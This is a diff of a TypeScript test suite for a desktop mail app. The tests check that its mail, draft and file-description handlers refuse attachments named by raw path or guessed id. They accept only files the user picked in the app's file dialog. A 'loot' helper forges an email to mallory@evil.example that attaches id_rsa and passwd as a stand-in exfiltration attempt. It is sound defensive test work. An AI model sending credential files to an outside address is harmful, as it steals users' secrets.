@@ -51,14 +51,19 @@ type App = AppHost & { call<T = unknown>(channel: string, payload?: unknown): Pr
 async function openApp(options: Partial<AppHostOptions> = {}): Promise<App> {
   const chosen: string[] = [];
   const host = await startAppHost({
-    browser: { open: async (url) => void completeLogin(url, 'demo@quicksend.test', { visitCallback: true }).catch(() => {}) },
+    browser: {
+      open: async (url) => void completeLogin(url, 'demo@quicksend.test', { visitCallback: true }).catch(() => {}),
+    },
     sandboxInstance: sandbox,
     ...options,
     // The person's choice in main's own file dialog.
     ports: { fileDialog: { chooseFiles: async () => chosen.splice(0) }, ...options.ports },
   });
   running.push(host);
-  const call = <T,>(channel: string, payload: unknown = {}) => host.core.router.handle(channel, payload, { frameUrl: `${host.host.origin}/`, isMainFrame: true }) as Promise<Result<T>>;
+  const call = <T>(channel: string, payload: unknown = {}) =>
+    host.core.router.handle(channel, payload, { frameUrl: `${host.host.origin}/`, isMainFrame: true }) as Promise<
+      Result<T>
+    >;
   return Object.assign(host, { call, chosen });
 }
 
@@ -73,7 +78,13 @@ async function signedIn(app: App): Promise<string> {
 }
 
 const guessedId = () => randomBytes(16).toString('base64url');
-const loot = (accountId: string, attachments: unknown[]) => ({ accountId, to: ['mallory@evil.example'], subject: 'loot', text: 'see attached', attachments });
+const loot = (accountId: string, attachments: unknown[]) => ({
+  accountId,
+  to: ['mallory@evil.example'],
+  subject: 'loot',
+  text: 'see attached',
+  attachments,
+});
 
 test('mail:send naming files the person never gave attaches nothing and delivers nothing', async () => {
   const { idRsa, passwd, report } = fakeHome();
@@ -81,22 +92,38 @@ test('mail:send naming files the person never gave attaches nothing and delivers
   const accountId = await signedIn(app);
 
   const forged = await app.call('mail:send', loot(accountId, [{ path: idRsa }, { path: passwd }]));
-  expect(forged).toMatchObject({ ok: false, error: { code: 'files.path_refused', message: expect.stringMatching(/file path/) } });
+  expect(forged).toMatchObject({
+    ok: false,
+    error: { code: 'files.path_refused', message: expect.stringMatching(/file path/) },
+  });
   // A path where a file id belongs, and a guessed file id, attach nothing either.
-  expect(await app.call('mail:send', loot(accountId, [{ fileId: idRsa }]))).toMatchObject({ ok: false, error: { code: 'ipc.invalid_request' } });
-  expect(await app.call('mail:send', loot(accountId, [{ fileId: guessedId() }]))).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
+  expect(await app.call('mail:send', loot(accountId, [{ fileId: idRsa }]))).toMatchObject({
+    ok: false,
+    error: { code: 'ipc.invalid_request' },
+  });
+  expect(await app.call('mail:send', loot(accountId, [{ fileId: guessedId() }]))).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
   expect(value(await app.call<{ items: unknown[] }>('outbox:list')).items).toEqual([]);
 
   // Control: the same message with the file the person picked in Attach… goes out, alone.
   app.chosen.push(report);
   const [picked] = value(await app.call<FileInfo[]>('files:choose'));
-  expect(picked).toEqual({ fileId: expect.stringMatching(/^[\w-]{22}$/), name: 'report.pdf', sizeBytes: 70_000, problem: null });
+  expect(picked).toEqual({
+    fileId: expect.stringMatching(/^[\w-]{22}$/),
+    name: 'report.pdf',
+    sizeBytes: 70_000,
+    problem: null,
+  });
   value(await app.call('mail:send', { ...loot(accountId, [{ fileId: picked!.fileId }]), to: ['ann@example.com'] }));
   const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
   const raw = await sandbox.smtp.read(received!.id);
   const parsed = await simpleParser(raw);
   expect(received!.to).toEqual(['ann@example.com']);
-  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([['report.pdf', sha256(readFileSync(report))]]);
+  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([
+    ['report.pdf', sha256(readFileSync(report))],
+  ]);
   expect(sandbox.smtp.messages()).toHaveLength(1);
   expect(raw.toString('latin1')).not.toContain(Buffer.from(SECRET).toString('base64').slice(0, 20));
 });
@@ -108,7 +135,10 @@ test('files:describe answers only for files the person gave', async () => {
   const forged = await app.call('files:describe', { paths: [idRsa] });
   expect(forged).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
   expect(JSON.stringify(forged)).not.toContain('id_rsa');
-  expect(await app.call('files:describe', { fileIds: [guessedId()] })).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
+  expect(await app.call('files:describe', { fileIds: [guessedId()] })).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
 
   app.chosen.push(report);
   const [picked] = value(await app.call<FileInfo[]>('files:choose'));
@@ -123,31 +153,46 @@ test('a draft naming a path is refused; a draft of a picked file survives a rest
   const accountId = await signedIn(first);
   const base = { accountId, to: ['ann@example.com'], cc: [], bcc: [], subject: 'Report', text: 'Attached.' };
 
-  const forged = await first.call('drafts:save', { draft: { ...base, attachments: [{ path: idRsa, name: 'id_rsa', sizeBytes: SECRET.length }] } });
+  const forged = await first.call('drafts:save', {
+    draft: { ...base, attachments: [{ path: idRsa, name: 'id_rsa', sizeBytes: SECRET.length }] },
+  });
   expect(forged).toMatchObject({ ok: false, error: { code: 'files.path_refused' } });
   expect(value(await first.call('drafts:get'))).toBeNull();
-  const guessed = await first.call('drafts:save', { draft: { ...base, attachments: [{ fileId: guessedId(), name: 'id_rsa', sizeBytes: 1 }] } });
+  const guessed = await first.call('drafts:save', {
+    draft: { ...base, attachments: [{ fileId: guessedId(), name: 'id_rsa', sizeBytes: 1 }] },
+  });
   expect(guessed).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
   expect(value(await first.call('drafts:get'))).toBeNull();
 
   first.chosen.push(report);
   const [picked] = value(await first.call<FileInfo[]>('files:choose'));
-  value(await first.call('drafts:save', { draft: { ...base, attachments: [{ fileId: picked!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] } }));
+  value(
+    await first.call('drafts:save', {
+      draft: { ...base, attachments: [{ fileId: picked!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] },
+    }),
+  );
   await first.stop();
   running.splice(running.indexOf(first), 1);
 
   const second = await openApp({ dataDir, ports: { cipher } });
   const restored = value(await second.call<Draft>('drafts:get'));
-  expect(restored.attachments).toEqual([{ fileId: expect.stringMatching(/^[\w-]{22}$/), name: 'report.pdf', sizeBytes: 70_000 }]);
+  expect(restored.attachments).toEqual([
+    { fileId: expect.stringMatching(/^[\w-]{22}$/), name: 'report.pdf', sizeBytes: 70_000 },
+  ]);
   const fresh = restored.attachments[0]!.fileId;
   expect(fresh).not.toBe(picked!.fileId);
   // File ids live for one run: the old one names nothing now.
-  expect(await second.call('mail:send', { ...base, attachments: [{ fileId: picked!.fileId }] })).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
+  expect(await second.call('mail:send', { ...base, attachments: [{ fileId: picked!.fileId }] })).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
   value(await second.call('settings:set', { undoDelaySeconds: 0 }));
   value(await second.call('mail:send', { ...base, attachments: [{ fileId: fresh }] }));
   const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
   const parsed = await simpleParser(await sandbox.smtp.read(received!.id));
-  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([['report.pdf', sha256(readFileSync(report))]]);
+  expect(parsed.attachments.map((a) => [a.filename, sha256(a.content)])).toEqual([
+    ['report.pdf', sha256(readFileSync(report))],
+  ]);
 });
 
 test('a file id expires once nothing refers to it: not in the current draft and past its grace period', async () => {
@@ -164,18 +209,33 @@ test('a file id expires once nothing refers to it: not in the current draft and 
   const [loose] = value(await app.call<FileInfo[]>('files:choose'));
   app.chosen.push(report);
   const [kept] = value(await app.call<FileInfo[]>('files:choose'));
-  value(await app.call('drafts:save', { draft: { ...base, attachments: [{ fileId: kept!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] } }));
+  value(
+    await app.call('drafts:save', {
+      draft: { ...base, attachments: [{ fileId: kept!.fileId, name: 'report.pdf', sizeBytes: 70_000 }] },
+    }),
+  );
 
   shift += 60_001;
   // Handed out a minute ago and held by nothing: gone.
-  expect(await app.call('mail:send', { ...base, attachments: [{ fileId: loose!.fileId }] })).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
-  expect(await app.call('files:describe', { fileIds: [loose!.fileId] })).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
+  expect(await app.call('mail:send', { ...base, attachments: [{ fileId: loose!.fileId }] })).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
+  expect(await app.call('files:describe', { fileIds: [loose!.fileId] })).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
   // Held by the draft: still good, however old.
   value(await app.call('mail:send', { ...base, attachments: [{ fileId: kept!.fileId }] }));
   // Sent, and the composer clears its draft: now nothing holds it.
   value(await app.call('drafts:save', { draft: null }));
-  expect(await app.call('files:describe', { fileIds: [kept!.fileId] })).toMatchObject({ ok: false, error: { code: 'files.unknown_file' } });
+  expect(await app.call('files:describe', { fileIds: [kept!.fileId] })).toMatchObject({
+    ok: false,
+    error: { code: 'files.unknown_file' },
+  });
   const [received] = await sandbox.smtp.waitForMessages(1, 10_000);
-  expect((await simpleParser(await sandbox.smtp.read(received!.id))).attachments.map((a) => a.filename)).toEqual(['report.pdf']);
+  expect((await simpleParser(await sandbox.smtp.read(received!.id))).attachments.map((a) => a.filename)).toEqual([
+    'report.pdf',
+  ]);
   expect(sandbox.smtp.messages()).toHaveLength(1);
 });
